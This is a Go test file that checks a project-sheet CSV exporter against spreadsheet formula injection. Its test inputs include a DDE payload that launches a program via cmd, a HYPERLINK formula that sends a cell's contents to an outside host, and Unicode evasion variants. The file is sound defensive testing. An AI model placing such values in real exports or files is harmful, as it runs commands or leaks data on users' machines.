package data

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"unicode/utf8"

	"feuille-de-route.example/cmd/build/internal/content"
)

// formulas are texts that some spreadsheet would run, or take for another thing
// than a text.
var formulas = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1+1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\"=1", "'=1", "\"'\"=1", `=cmd|' /C calc'!A0`,
	"＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1", "Bonjour;=1+1", "Bonjour; =1+1", "Bonjour\t=1", "Bonjour\n=1", "a;\"=1", `=HYPERLINK("https://exemple.fr/?"&A1;"ici")`, "'", "'a", ";'a",
}

// written is a file with a text in several of its cells.
func written(t testing.TB, text string) []byte {
	t.Helper()
	return writtenProjet(t, projetsTable(), projet(text, text, text, "b"))
}

func projetsTable() *Table { return tablesOf(nil)[0] }

func projet(titre, reserve string, pilotes ...string) Projet {
	x := Projet{Ident: Ident{ID: "a"}}
	x.Titre.S, x.Reserve.S = titre, reserve
	for _, p := range pilotes {
		x.Pilotes = append(x.Pilotes, content.Text{S: p})
	}
	return x
}

func writtenProjet(t testing.TB, table *Table, x Projet) []byte {
	t.Helper()
	var b bytes.Buffer
	table.CSV(&b, &Feuille{Projets: []Projet{x}})
	return b.Bytes()
}

// dangerous reports whether a spreadsheet that cuts lines at a separator would
// see a formula in one of the cells. It is meant to be naive, unlike risky.
func dangerous(row, separators string) string {
	for _, cell := range strings.FieldsFunc(row, func(r rune) bool { return strings.ContainsRune(separators, r) }) {
		bare := strings.TrimLeft(cell, " \u00a0\"\u200b\ufeff")
		if bare != "" && strings.ContainsRune("=+-@＝＋－＠﹦﹢﹣﹫", []rune(bare)[0]) {
			return cell
		}
	}
	return ""
}

func TestNoFormulaRuns(t *testing.T) {
	for _, text := range formulas {
		data := written(t, text)
		rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Errorf("%q: %v, %d rows", text, err, len(rows))
			continue
		}
		for _, cell := range rows[1] {
			if bad := dangerous(cell, ";\t\r\n"); bad != "" {
				t.Errorf("%q: the cell %q begins with a formula", text, bad)
			}
		}
		for line := range strings.Lines(string(data)) {
			if bad := dangerous(line, ";\t\r\n"); bad != "" {
				t.Errorf("%q: cut at semicolons, %q begins with a formula", text, bad)
			}
		}
	}
}

// What needs no protection stays as it is.
func TestPlainTextsStay(t *testing.T) {
	for _, text := range []string{"", "Œuvre « à l’été »", "a=b", "1+1", "2019-2022", "https://exemple.fr/", "a ; b", "5 - 3", "l'État", "x@exemple.fr", "« =1 »"} {
		if got := Protect(text); got != text {
			t.Errorf("%q becomes %q", text, got)
		}
	}
}

func TestForm(t *testing.T) {
	data := string(written(t, `Un « titre », "cité"`))
	if strings.HasPrefix(data, "\ufeff") || strings.Count(data, "\n") != strings.Count(data, "\r\n") || !strings.HasSuffix(data, "\r\n") {
		t.Errorf("not UTF-8 without mark, with CRLF: %q", data)
	}
	if !strings.Contains(data, `,"Un « titre », ""cité""",`) {
		t.Errorf("not quoted as RFC 4180 has it: %s", data)
	}
}

// restore gives back the text that Protect was given: it drops an apostrophe at
// the beginning, and after each semicolon, tab and line break.
func restore(s string) string {
	var b strings.Builder
	done := 0
	for at := 0; at >= 0; at = next(s, at) {
		if strings.HasPrefix(s[at:], "'") {
			b.WriteString(s[done:at])
			done = at + 1
		}
	}
	return b.String() + s[done:]
}

// Whatever people write, a reader of other hands finds the same rows, no cell of
// which is a formula, and restore gives back the text.
func FuzzCSV(f *testing.F) {
	for _, text := range formulas {
		f.Add(text, "b")
	}
	f.Add("a|b", `c\d`)
	f.Fuzz(func(t *testing.T, text, other string) {
		if !utf8.ValidString(text) || !utf8.ValidString(other) {
			return // content is read as UTF-8
		}
		table := projetsTable()
		rows, err := csv.NewReader(bytes.NewReader(writtenProjet(t, table, projet(text, "", text, other)))).ReadAll()
		if err != nil || len(rows) != 2 || len(rows[1]) != len(table.Columns) {
			t.Fatalf("%v: %q", err, rows)
		}
		for i, cell := range rows[1] {
			if bad := dangerous(cell, ";\t\r\n"); bad != "" {
				t.Fatalf("the cell %q begins with a formula", bad)
			}
			want := map[string]string{"titre": text, "pilotes": joined([]string{text, other})}[table.Columns[i].Name]
			if want = lines.Replace(want); want != "" && restore(cell) != want {
				t.Fatalf("%q is restored to %q", want, restore(cell))
			}
			if table.Columns[i].Name == "pilotes" {
				if got := cut(restore(cell)); len(got) != 2 || got[0] != lines.Replace(text) || got[1] != lines.Replace(other) {
					t.Fatalf("%q and %q are joined so that they cannot be told apart: %q", text, other, cell)
				}
			}
		}
	})
}

// cut undoes joined, as the page of data explains it.
func cut(cell string) []string {
	out := []string{""}
	escaped := false
	for _, r := range cell {
		switch {
		case !escaped && r == '\\':
			escaped = true
			continue
		case !escaped && r == '|':
			out = append(out, "")
		default:
			out[len(out)-1] += string(r)
		}
		escaped = false
	}
	return out
}
